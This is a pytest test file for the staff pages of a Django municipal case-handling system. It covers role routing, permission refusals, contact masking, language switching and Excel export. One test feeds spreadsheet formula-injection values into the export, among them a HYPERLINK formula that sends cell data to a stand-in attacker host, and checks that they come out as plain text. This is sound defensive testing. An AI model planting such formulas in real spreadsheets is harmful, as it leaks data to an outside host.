"""Staff pages: each role lands on its page, buttons come from the workflow table, actions
submitted from HTML go through the same rules, the filtered list exports to Excel."""
import io

import pytest
from openpyxl import load_workbook

from jingzhi.cases.models import Case
from jingzhi.cases.workflow import State
from jingzhi.org.models import Role

pytestmark = pytest.mark.django_db


@pytest.fixture
def login(client):
    def as_user(user):
        client.force_login(user)
        return client
    return as_user


@pytest.mark.parametrize("who, page", [
    ("chief", "/cases/overview/"), ("dispatcher", "/cases/dispatch/"), ("intake", "/cases/intake/"),
    ("handler_a", "/cases/worklist/"), ("inspector", "/cases/tasks/"), ("leader", "/cases/overview/"),
])
def test_each_role_lands_on_its_page(staff, login, who, page):
    client = login(getattr(staff, who))
    response = client.get("/cases/")
    assert response.status_code == 302 and response["Location"] == page
    assert client.get(page).status_code == 200


def test_other_staff_land_on_the_search(make_user, login):
    client = login(make_user(Role.UNIT_REPORTER))
    assert client.get("/cases/")["Location"] == "/cases/search/"


def test_role_pages_refuse_other_roles(staff, login):
    client = login(staff.handler_a)
    for page in ("/cases/dispatch/", "/cases/intake/", "/cases/overview/", "/cases/tasks/", "/cases/new/"):
        assert client.get(page).status_code == 403


def test_the_console_lists_the_queue_with_the_suggested_department(staff, geography, make_case, login):
    filed = make_case(State.FILED)
    make_case(State.REPORTED)
    html = login(staff.dispatcher).get("/cases/dispatch/").content.decode()
    assert filed.number in html and html.count('class="console-row"') == 1
    assert f"<b class=\"suggested\">{geography.district_a.name}</b>" in html


def test_the_worklist_shows_overdue_first(staff, make_case, login):
    from .conftest import at

    later = make_case(State.HANDLING, now=at("2024-06-11 09:00"))
    earlier = make_case(State.HANDLING, now=at("2024-06-03 09:00"))
    html = login(staff.handler_a).get("/cases/worklist/").content.decode()
    assert html.index(earlier.number) < html.index(later.number)
    assert "超时" in html


def test_buttons_follow_the_table_and_html_actions_apply_its_rules(staff, make_case, login):
    case = make_case(State.FILED)
    client = login(staff.dispatcher)
    html = client.get(f"/cases/{case.pk}/").content.decode()
    assert 'data-action="dispatch"' in html and 'data-action="close"' not in html
    refused = login(staff.chief).post(f"/cases/{case.pk}/act/close/", {"comment": "x"})
    assert refused.status_code == 409 and "不能执行“结案”" in refused.content.decode()
    response = login(staff.dispatcher).post(f"/cases/{case.pk}/act/dispatch/", {"department": "", "comment": ""})
    assert response.status_code == 302
    case.refresh_from_db()
    assert case.state == State.DISPATCHED and case.department == case.suggested_department
    bad = login(staff.handler_a).post(f"/cases/{case.pk}/act/return/", {"comment": ""})
    assert bad.status_code == 400 and "该字段" in bad.content.decode()


def test_the_detail_shows_the_timeline_and_masks_contacts(staff, make_case, login):
    case = make_case(State.HANDLING)
    html = login(staff.handler_a).get(f"/cases/{case.pk}/").content.decode()
    for label in ("上报", "受理", "立案", "派遣", "签收"):
        assert f"<b>{label}</b>" in html
    assert "王* 137****2222" in html
    assert "王五 13700002222" in login(staff.intake).get(f"/cases/{case.pk}/").content.decode()
    assert login(staff.handler_b).get(f"/cases/{case.pk}/").status_code == 404


def test_the_search_filters_and_exports(staff, geography, make_case, login):
    a = make_case(State.FILED, where="a")
    b = make_case(State.DISPATCHED, where="b")
    client = login(staff.intake)
    html = client.get("/cases/search/", {"district": geography.district_b.pk}).content.decode()
    assert b.number in html and a.number not in html
    response = client.get("/cases/export/", {"district": geography.district_b.pk})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "案卷号" and len(rows) == 2
    assert rows[1][0] == b.number and rows[1][6] == "待签收" and rows[1][7] == geography.district_b.name
    assert rows[1][10] == geography.district_b.name  # dispatched to the suggested district
    everything = load_workbook(io.BytesIO(client.get("/cases/export/").content)).active
    assert everything.max_row == 3


@pytest.mark.parametrize("description, address", [
    ('=HYPERLINK("http://evil.example/?x="&B2,"详情")', "=1+2"),
    ("+86 138 0000 0000", "@SUM(A1)"),
    ("-1+2", "\t=1+2"),
    ("\r=1+2", "普通地址"),
])
def test_citizen_text_is_exported_as_text_never_as_a_formula(staff, make_case, login, description, address):
    case = make_case(State.FILED, description=description)
    Case.objects.filter(pk=case.pk).update(address=address)
    sheet = load_workbook(io.BytesIO(login(staff.intake).get("/cases/export/").content)).active
    row = next(iter(sheet.iter_rows(min_row=2)))
    address_cell, description_cell = row[17], row[18]
    # The file is XML: a carriage return reads back as the line break XML turns it into.
    assert (description_cell.data_type, description_cell.value, description_cell.quotePrefix) == (
        "s", description.replace("\r", "\n"), True)
    assert (address_cell.data_type, address_cell.value) == ("s", address)
    assert address_cell.quotePrefix == (address != "普通地址")
    assert (row[15].data_type, row[15].value) == ("n", 0)  # rework count stays a number


def test_an_export_with_bad_filters_goes_back_to_the_search(staff, login):
    response = login(staff.intake).get("/cases/export/", {"grid": "abc"})
    assert response.status_code == 302 and response["Location"] == "/cases/search/?grid=abc"


def test_the_export_is_scoped(staff, make_case, login):
    make_case(State.DISPATCHED, where="a")
    make_case(State.DISPATCHED, where="b")
    sheet = load_workbook(io.BytesIO(login(staff.handler_b).get("/cases/export/").content)).active
    assert sheet.max_row == 2


def test_an_inspector_reports_from_the_form(staff, geography, category, login, photo):
    lon, lat = geography.inside_b
    client = login(staff.inspector)
    response = client.post("/cases/new/", {
        "category": "E0102", "source": "inspector", "urgency": "normal", "description": "垃圾", "lon": lon,
        "lat": lat, "coord_system": "wgs84", "photos": [photo()]})
    case = Case.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/cases/{case.pk}/"
    assert case.district == geography.district_b and case.photos.count() == 1
    outside = client.post("/cases/new/", {"category": "E0102", "source": "inspector", "description": "x",
                                           "lon": geography.outside[0], "lat": geography.outside[1]})
    assert outside.status_code == 400 and "不在本市服务范围内" in outside.content.decode()


def test_role_tabs_and_heading_follow_the_request_language(client, staff, make_case):
    case = make_case()
    client.force_login(staff.chief)
    html = client.get(f"/cases/{case.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert f"Case {case.number}" in html and "Overview" in html and "总览" not in html
    html = client.get(f"/cases/{case.pk}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert f"案件 {case.number}" in html and "总览" in html


def test_category_names_follow_the_request_language(client, staff, make_case, category):
    category.name_en = "Exposed garbage"
    category.save()
    case = make_case()
    client.force_login(staff.chief)
    assert "Exposed garbage" in client.get(f"/cases/{case.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    html = client.get(f"/cases/{case.pk}/", HTTP_ACCEPT_LANGUAGE="zh-hans").content.decode()
    assert "暴露垃圾" in html and "Exposed garbage" not in html


def test_an_export_over_the_limit_is_refused_not_cut_short(staff, geography, make_case, login, monkeypatch):
    from jingzhi.cases import export

    monkeypatch.setattr(export, "EXPORT_LIMIT", 2)
    for where in "aab":
        make_case(State.FILED, where=where)
    client = login(staff.intake)
    response = client.get("/cases/export/", follow=True)
    assert response.redirect_chain == [("/cases/search/?", 302)]
    assert "筛选结果共 3 件，超过导出上限 2 件" in response.content.decode()
    narrowed = client.get("/cases/export/", {"district": geography.district_a.pk})
    assert load_workbook(io.BytesIO(narrowed.content)).active.max_row == 3  # header + the 2 cases of A
